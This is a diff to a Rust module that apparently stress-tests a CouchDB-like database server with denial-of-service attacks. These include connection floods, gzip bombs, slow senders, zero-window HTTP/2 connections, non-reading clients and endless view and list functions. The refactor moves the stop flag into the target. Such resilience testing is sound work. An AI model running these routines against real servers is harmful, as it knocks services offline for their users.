@@ -1,6 +1,6 @@
 //! The attacks. Those who attack are strangers to the server: what they use, somebody with rights has made public.
 
-use std::io::{Read, Write};
+use std::io::{self, Write};
 use std::net::SocketAddr;
 use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, Ordering};
@@ -36,7 +36,7 @@ pub(super) struct Attack {
     /// Makes what it uses.
     prepare: fn(&Target) -> Result<()>,
     /// Is called again and again until it is enough.
-    act: fn(&Target, &AtomicBool),
+    act: fn(&Target),
 }
 
 /// Who is attacked.
@@ -45,12 +45,14 @@ pub(super) struct Target {
     /// For what is prepared.
     admin: String,
     form: Form,
+    /// Set when it is enough.
+    stop: Arc<AtomicBool>,
 }
 
 impl Target {
     pub(super) fn prepare(url: &str, form: Form, attack: &Attack) -> Result<Self> {
         let (address, admin) = split(url)?;
-        let target = Self { address, admin, form };
+        let target = Self { address, admin, form, stop: Arc::default() };
         target.make("PUT /public", b"")?;
         target.make("PUT /public/_security", br#"{"admins":{"roles":[]},"members":{"roles":[]}}"#)?;
         (attack.prepare)(&target)?;
@@ -63,6 +65,26 @@ impl Target {
         Ok(())
     }
 
+    /// A connection for an attack, which ends with it.
+    fn connect(&self) -> io::Result<Connection> {
+        Connection::open_until(self.address, &self.stop)
+    }
+
+    /// Ends the attack.
+    pub(super) fn stop(&self) {
+        self.stop.store(true, Ordering::Relaxed);
+    }
+
+    fn is_over(&self) -> bool {
+        self.stop.load(Ordering::Relaxed)
+    }
+
+    fn wait(&self) {
+        while !self.is_over() {
+            thread::sleep(Duration::from_millis(20));
+        }
+    }
+
     /// So many in the short form, and in the long one.
     fn count(&self, short: usize, long: usize) -> usize {
         if self.form == Form::Short { short } else { long }
@@ -70,13 +92,13 @@ impl Target {
 }
 
 impl Attack {
-    /// Begins. The threads end when `stop` is true.
-    pub(super) fn begin(&'static self, target: &Arc<Target>, stop: &Arc<AtomicBool>) -> Vec<JoinHandle<()>> {
+    /// Begins. The threads end soon after [`Target::stop`].
+    pub(super) fn begin(&'static self, target: &Arc<Target>) -> Vec<JoinHandle<()>> {
         let one = || {
-            let (target, stop) = (Arc::clone(target), Arc::clone(stop));
+            let target = Arc::clone(target);
             thread::spawn(move || {
-                while !stop.load(Ordering::Relaxed) {
-                    (self.act)(&target, &stop);
+                while !target.is_over() {
+                    (self.act)(&target);
                 }
             })
         };
@@ -84,23 +106,17 @@ impl Attack {
     }
 }
 
-fn wait(stop: &AtomicBool) {
-    while !stop.load(Ordering::Relaxed) {
-        thread::sleep(Duration::from_millis(20));
-    }
-}
-
-fn idle_connections(target: &Target, stop: &AtomicBool) {
+fn idle_connections(target: &Target) {
     let wanted = target.count(1200, 5000);
-    let connections: Vec<_> = (0..wanted).map_while(|_| Connection::open(target.address).ok()).collect();
+    let connections: Vec<_> = (0..wanted).map_while(|_| target.connect().ok()).collect();
     // The next database needs files of its own.
-    let made = Connection::open(target.address).and_then(|mut open| open.ask("PUT /another", &target.admin, b""));
+    let made = target.connect().and_then(|mut open| open.ask("PUT /another", &target.admin, b""));
     drop(made);
-    wait(stop);
+    target.wait();
     drop(connections);
 }
 
-fn gzip_bombs(target: &Target, stop: &AtomicBool) {
+fn gzip_bombs(target: &Target) {
     let megabytes = target.count(200, 1000);
     let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
     let spaces = vec![b' '; 1 << 20];
@@ -109,26 +125,26 @@ fn gzip_bombs(target: &Target, stop: &AtomicBool) {
         let _ = encoder.write_all(&spaces);
     }
     let bomb = encoder.finish().unwrap_or_default();
-    while !stop.load(Ordering::Relaxed) {
+    while !target.is_over() {
         for line in ["POST /_session", "PUT /public/doc", "POST /public/_bulk_docs", "POST /public/_find"] {
-            let Ok(mut connection) = Connection::open(target.address) else { return };
+            let Ok(mut connection) = target.connect() else { return };
             let _ = connection.ask(line, "Content-Encoding: gzip\r\n", &bomb);
         }
     }
 }
 
 /// Sends nearly all of a body.
-fn slow_senders(target: &Target, stop: &AtomicBool) {
+fn slow_senders(target: &Target) {
     let body = vec![b' '; 4_000_000];
     let mut connections = Vec::new();
-    while connections.len() < target.count(300, 2000) && !stop.load(Ordering::Relaxed) {
-        let Ok(mut connection) = Connection::open(target.address) else { continue };
-        let _ = connection.stream().set_write_timeout(Some(Duration::from_millis(200)));
+    while connections.len() < target.count(300, 2000) && !target.is_over() {
+        let Ok(connection) = target.connect() else { continue };
+        let mut connection = connection.with_patience(Duration::from_millis(200));
         let begun = connection.write(&head("PUT /public/doc", "", body.len() + 1));
         let _ = begun.and_then(|()| connection.write(&body));
         connections.push(connection);
     }
-    wait(stop);
+    target.wait();
 }
 
 const LARGE_PATHS: [&str; 3] =
@@ -143,10 +159,10 @@ fn large_documents(target: &Target) -> Result<()> {
 }
 
 /// A connection of HTTP/2 whose windows let nothing through, with 90 requests.
-fn closed_windows(target: &Target, stop: &AtomicBool) {
+fn closed_windows(target: &Target) {
     let mut connections = Vec::new();
     for _ in 0..target.count(10, 50) {
-        let Ok(mut connection) = Connection::open(target.address) else { continue };
+        let Ok(mut connection) = target.connect() else { continue };
         // SETTINGS with INITIAL_WINDOW_SIZE 0, and another one to say that those of the server were seen.
         let mut text =
             b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0\0\0\0\x04\x01\0\0\0\0".to_vec();
@@ -165,25 +181,25 @@ fn closed_windows(target: &Target, stop: &AtomicBool) {
     }
     // Who was cut off comes back.
     for _ in 0..50 {
-        if stop.load(Ordering::Relaxed) {
+        if target.is_over() {
             return;
         }
         thread::sleep(Duration::from_millis(100));
     }
 }
 
-fn non_readers(target: &Target, stop: &AtomicBool) {
+fn non_readers(target: &Target) {
     let mut connections = Vec::new();
     for number in 0..target.count(300, 2000) {
-        let Ok(mut connection) = Connection::open(target.address) else { continue };
+        let Ok(mut connection) = target.connect() else { continue };
         let _ = connection.write(&head(&format!("GET {}", LARGE_PATHS[number % LARGE_PATHS.len()]), "", 0));
         connections.push(connection);
-        if stop.load(Ordering::Relaxed) {
+        if target.is_over() {
             return;
         }
     }
     for _ in 0..50 {
-        if stop.load(Ordering::Relaxed) {
+        if target.is_over() {
             return;
         }
         thread::sleep(Duration::from_millis(100));
@@ -191,11 +207,11 @@ fn non_readers(target: &Target, stop: &AtomicBool) {
 }
 
 /// Streams what is refused: a wrong password, a database that is not there.
-fn refused_bodies(target: &Target, _: &AtomicBool) {
+fn refused_bodies(target: &Target) {
     let chunk = [&b"10000\r\n"[..], &vec![b'x'; 1 << 16], b"\r\n"].concat();
     for (path, who) in [("/nothing/doc/a", ""), ("/probe/doc/a", ""), ("/public/d/a", "Authorization: Basic eDp5\r\n")]
     {
-        let Ok(mut connection) = Connection::open(target.address) else { return };
+        let Ok(mut connection) = target.connect() else { return };
         let begin = format!("PUT {path} HTTP/1.1\r\nHost: x\r\n{who}Transfer-Encoding: chunked\r\n\r\n");
         let sent = connection.write(begin.as_bytes());
         let _ = sent.and_then(|()| (0..64).try_for_each(|_| connection.write(&chunk)));
@@ -221,10 +237,9 @@ fn hanging_functions(target: &Target) -> Result<()> {
     view(target, "function(doc){while(true){}}")
 }
 
-fn query_view(target: &Target, _: &AtomicBool) {
-    let Ok(mut connection) = Connection::open(target.address) else { return };
-    let _ = connection.stream().set_read_timeout(Some(Duration::from_secs(10)));
-    let _ = connection.ask("GET /public/_design/d/_view/v?limit=1", "", b"");
+fn query_view(target: &Target) {
+    let Ok(connection) = target.connect() else { return };
+    let _ = connection.with_patience(Duration::from_secs(10)).ask("GET /public/_design/d/_view/v?limit=1", "", b"");
 }
 
 fn endless_lists(target: &Target) -> Result<()> {
@@ -235,19 +250,17 @@ fn endless_lists(target: &Target) -> Result<()> {
     target.make("PUT /public/_design/d", text.as_bytes())
 }
 
-fn endless_list(target: &Target, stop: &AtomicBool) {
-    let Ok(mut connection) = Connection::open(target.address) else { return };
-    let _ = connection.write(&head("GET /public/_design/d/_list/l/v", "", 0));
-    let mut buffer = [0; 4096];
-    let mut stream = connection.stream();
-    while !stop.load(Ordering::Relaxed) && stream.read(&mut buffer).is_ok_and(|length| length > 0) {}
+fn endless_list(target: &Target) {
+    let Ok(mut connection) = target.connect() else { return };
+    let asked = connection.write(&head("GET /public/_design/d/_list/l/v", "", 0));
+    let _ = asked.and_then(|()| connection.swallow());
 }
 
 /// Saves design documents with modules of one large function. Only admins may, so somebody was talked into it.
-fn slow_compilation(target: &Target, _: &AtomicBool) {
+fn slow_compilation(target: &Target) {
     let module = base64(&module(target.count(200_000, 1_300_000)));
     let text = format!("{{\"language\":\"wasm\",\"views\":{{\"v\":{{\"map\":\"{module}\"}}}}}}");
-    let Ok(mut connection) = Connection::open(target.address) else { return };
+    let Ok(mut connection) = target.connect() else { return };
     let _ = connection.ask("PUT /public/_design/w", &target.admin, text.as_bytes());
 }
 
